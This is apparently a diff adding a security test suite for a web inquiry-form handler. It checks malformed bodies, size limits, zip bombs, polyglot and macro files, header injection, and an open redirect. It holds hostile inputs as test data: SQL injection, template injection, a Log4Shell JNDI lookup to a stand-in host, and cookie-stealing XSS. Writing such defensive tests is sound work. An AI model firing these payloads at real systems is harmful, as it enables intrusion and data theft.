@@ -1,0 +1,293 @@
+import { env } from "cloudflare:test";
+import { beforeEach, describe, expect, it } from "vitest";
+import { bin, concat, samples, zip } from "./file-samples.ts";
+import {
+  call,
+  countInquiries,
+  file,
+  installFakes,
+  storedRow,
+  submit,
+  testIp,
+  validFields,
+  type Fakes,
+} from "./helpers.ts";
+
+let fakes: Fakes;
+beforeEach(() => {
+  fakes = installFakes();
+});
+
+const URL_ = "https://forms.example.com/inquiry";
+
+function raw(body: BodyInit | null, contentType: string, extra: Record<string, string> = {}) {
+  return call(
+    new Request(URL_, {
+      method: "POST",
+      headers: {
+        "content-type": contentType,
+        accept: "application/json",
+        "accept-language": "en",
+        "cf-connecting-ip": testIp(),
+        ...extra,
+      },
+      body,
+    }),
+  );
+}
+
+async function code(res: Response): Promise<string> {
+  return ((await res.json()) as { code: string }).code;
+}
+
+/** After each attack, a good inquiry must still be stored. */
+async function stillWorks() {
+  const res = await submit(validFields());
+  expect(res.status).toBe(201);
+}
+
+describe("malformed bodies", () => {
+  const B = "----x";
+  const part = (name: string, value: string) =>
+    `--${B}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`;
+
+  it.each([
+    ["multipart without a boundary", "", "multipart/form-data"],
+    [
+      "an unterminated part",
+      `--${B}\r\nContent-Disposition: form-data; name="name"\r\n\r\nAna`,
+      `multipart/form-data; boundary=${B}`,
+    ],
+    [
+      "a part without headers",
+      `--${B}\r\n\r\nvalue\r\n--${B}--\r\n`,
+      `multipart/form-data; boundary=${B}`,
+    ],
+    ["a boundary that never appears", "just text", `multipart/form-data; boundary=${B}`],
+    [
+      "invalid UTF-8 in a urlencoded body",
+      bin("name=Ana\xff\xfeNovak&email=a@b.si"),
+      "application/x-www-form-urlencoded",
+    ],
+    ["invalid UTF-8 in JSON", bin('{"name":"\xc3\x28"}'), "application/json"],
+    ["JSON that is not an object", "[]", "application/json"],
+    ["deeply nested JSON", "[".repeat(5000) + "]".repeat(5000), "application/json"],
+  ])("%s gets 400 malformed_body", async (_label, body, type) => {
+    const res = await raw(body as BodyInit, type);
+    expect(res.status).toBe(400);
+    expect(await code(res)).toBe("malformed_body");
+    await stillWorks();
+  });
+
+  it("huge part headers are bounded by the body limit", async () => {
+    const head = (pad: number) =>
+      `--${B}\r\nContent-Disposition: form-data; name="name"\r\nX-Pad: ${"a".repeat(pad)}\r\n\r\nAna\r\n--${B}--\r\n`;
+    const over = await raw(head(11 * 1024 * 1024), `multipart/form-data; boundary=${B}`);
+    expect(over.status).toBe(413);
+    // Within the limit the parser copes, and the missing fields are the answer.
+    const within = await raw(head(300_000), `multipart/form-data; boundary=${B}`);
+    expect(within.status).toBe(422);
+    await stillWorks();
+  });
+
+  it("a percent-encoded invalid byte becomes a field error, not garbage in the database", async () => {
+    const fields = new URLSearchParams(validFields())
+      .toString()
+      .replace(/name=[^&]*/, "name=Ana%FFNovak");
+    const res = await raw(fields, "application/x-www-form-urlencoded");
+    expect(res.status).toBe(422);
+    expect(((await res.json()) as { errors: { field: string; code: string }[] }).errors).toEqual([
+      { field: "name", code: "invalid_characters", message: expect.any(String) },
+    ]);
+  });
+
+  it("thousands of fields get 413", async () => {
+    const form = new FormData();
+    for (const [k, v] of Object.entries(validFields())) form.append(k, v);
+    for (let i = 0; i < 5000; i++) form.append(`f${i}`, "x");
+    const res = await call(
+      new Request(URL_, {
+        method: "POST",
+        body: form,
+        headers: { accept: "application/json", "cf-connecting-ip": testIp() },
+      }),
+    );
+    expect(res.status).toBe(413);
+    await stillWorks();
+  });
+
+  it("a very long value gets 413 even inside a multipart body", async () => {
+    const res = await submit({ ...validFields(), company: "x".repeat(1_000_000) });
+    expect(res.status).toBe(413);
+    const json = await submit(
+      { ...validFields(), message: "y".repeat(1_000_000) },
+      { encoding: "json" },
+    );
+    expect(json.status).toBe(413);
+    await stillWorks();
+  });
+
+  it("a 200 MB chunked body is cut off early with 413, not read to the end", async () => {
+    const CHUNK = new Uint8Array(64 * 1024).fill(0x41);
+    let pulled = 0;
+    const total = (200 * 1024 * 1024) / CHUNK.length;
+    const body = new ReadableStream<Uint8Array>({
+      pull(controller) {
+        if (pulled === 0)
+          controller.enqueue(
+            new TextEncoder().encode(
+              `--b\r\nContent-Disposition: form-data; name="attachment"; filename="big.txt"\r\n\r\n`,
+            ),
+          );
+        if (++pulled >= total) controller.close();
+        else controller.enqueue(CHUNK);
+      },
+    });
+    const res = await raw(body, "multipart/form-data; boundary=b");
+    expect(res.status).toBe(413);
+    expect(await code(res)).toBe("payload_too_large");
+    // The limit is 10 MiB + 128 KiB: the reader stopped near it, far short of 200 MB.
+    expect(pulled * CHUNK.length).toBeLessThan(20 * 1024 * 1024);
+    await stillWorks();
+  });
+});
+
+describe("NUL and CR/LF in every field", () => {
+  const expected: Record<string, [nul: string, crlf: string | null]> = {
+    name: ["invalid_characters", "invalid_characters"],
+    email: ["invalid_email", "invalid_email"],
+    phone: ["invalid_phone", "invalid_phone"],
+    company: ["invalid_characters", "invalid_characters"],
+    service: ["invalid_choice", "invalid_choice"],
+    message: ["invalid_characters", null], // line breaks are the message's own
+  };
+  for (const [field, [nul, crlf]] of Object.entries(expected)) {
+    it(`${field}`, async () => {
+      const good = validFields();
+      for (const [bad, want] of [
+        [`${good[field]!.slice(0, 4)}\u0000x`, nul],
+        [`${good[field]!.slice(0, 4)}\r\nBcc: x@evil.example`, crlf],
+      ] as const) {
+        const res = await submit({ ...good, [field]: bad });
+        if (want === null) {
+          expect(res.status).toBe(201);
+          continue;
+        }
+        expect(res.status).toBe(422);
+        const errors = ((await res.json()) as { errors: { field: string; code: string }[] }).errors;
+        expect(errors).toEqual([{ field, code: want, message: expect.any(String) }]);
+      }
+    });
+  }
+});
+
+describe("lying and dangerous files", () => {
+  const refused = async (bytes: Uint8Array, name: string) => {
+    const before = await countInquiries();
+    const res = await submit({
+      ...validFields(),
+      attachment: file(bytes, name, "application/pdf"),
+    });
+    expect(res.status).toBe(422);
+    expect(((await res.json()) as { errors: { code: string }[] }).errors[0]?.code).toBe(
+      "file_type_not_allowed",
+    );
+    expect(await countInquiries()).toBe(before);
+  };
+
+  it("a PDF+ZIP polyglot", async () => {
+    const polyglot = concat(samples.pdf(), zip([{ name: "payload.txt", data: "hidden" }]));
+    await refused(polyglot, "offer.pdf");
+  });
+
+  it("a zip bomb (one entry claiming 1 GiB from a few bytes)", async () => {
+    await refused(
+      zip([{ name: "bomb.bin", data: new Uint8Array(1000), declaredSize: 1024 * 1024 * 1024 }]),
+      "parts.zip",
+    );
+  });
+
+  it("an archive with a program inside", async () => {
+    await refused(
+      zip([
+        { name: "readme.txt", data: "hi" },
+        { name: "setup.exe", data: "MZ" },
+      ]),
+      "drawings.zip",
+    );
+  });
+
+  it("an Office file with VBA macros", async () => {
+    await refused(
+      zip([
+        { name: "[Content_Types].xml", data: "<Types/>" },
+        { name: "word/document.xml", data: "<w:document/>" },
+        { name: "word/vbaProject.bin", data: "macro" },
+      ]),
+      "offer.docx",
+    );
+  });
+
+  it("an HTML page and an SVG are only ever text, never served as markup", async () => {
+    const res = await submit(
+      {
+        ...validFields(),
+        attachment: file('<svg onload="alert(1)"/>', "logo.svg", "image/svg+xml"),
+      },
+      {},
+      { RESEND_API_KEY: "" },
+    );
+    expect(res.status).toBe(201);
+    const { id } = (await res.json()) as { id: string };
+    expect(await storedRow(id)).toMatchObject({
+      attachment_type: "text/plain",
+      attachment_name: "logo.txt",
+    });
+  });
+});
+
+describe("naughty strings are stored verbatim and harm nothing", () => {
+  const naughty = [
+    "'; DROP TABLE inquiries; --",
+    "Robert'); DELETE FROM tech_log WHERE ('1'='1",
+    "{{7*7}} ${7*7} <%= 7*7 %>",
+    "${jndi:ldap://evil.example/a}",
+    "<img src=x onerror=alert(document.cookie)>",
+    "javascript:alert(1)",
+    "Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟o̶̙̰̠kè͚̮̺̪̹̱̤ ̖t̝͕̳̣̻̪͞h̼͓̲̦̳̘̲e͇̣̰̦̬͎ ̢̼̻̱̘h͚͎͙̜̣̲ͅi̦̲̣̰̤v̻͍e̺̭̳̪̰-m̢iͅn̖̺̞̲̯̰d̵̼̟͙̩̼̘̳",
+    "مرحبا بالعالم שלום 👩🏽‍🔬🇸🇮",
+    "\u00A0\u2002\u3000 spaces",
+    "0xFFFFFFFF -1 NaN Infinity null undefined",
+  ];
+  it.each(naughty)("%s", async (value) => {
+    const fields = validFields({ company: value.slice(0, 160), message: value });
+    const res = await submit(fields, { accept: "text/html" });
+    expect(res.status).toBe(303);
+    const json = await submit(fields);
+    const { id } = (await json.json()) as { id: string };
+    expect(await storedRow(id)).toMatchObject({ message: value.trim() });
+    const tables = await env.DB.prepare(
+      "SELECT count(*) AS n FROM sqlite_master WHERE name IN ('inquiries','tech_log')",
+    ).first<{ n: number }>();
+    expect(tables?.n).toBe(2);
+    // The mail's HTML part escapes it.
+    const mail = fakes.resend.emails.find((e) => e.idempotencyKey === `inquiry-${id}`)!;
+    expect(mail.body.html).not.toContain("<img src=x");
+  });
+});
+
+describe("no open redirect", () => {
+  it("ignores any redirect a visitor sends", async () => {
+    const res = await submit(
+      {
+        ...validFields(),
+        _redirect: "https://evil.example",
+        _next: "https://evil.example",
+        redirect: "https://evil.example",
+      },
+      { accept: "text/html" },
+    );
+    expect(res.status).toBe(303);
+    expect(res.headers.get("location")).toMatch(/^\/thanks/);
+  });
+});
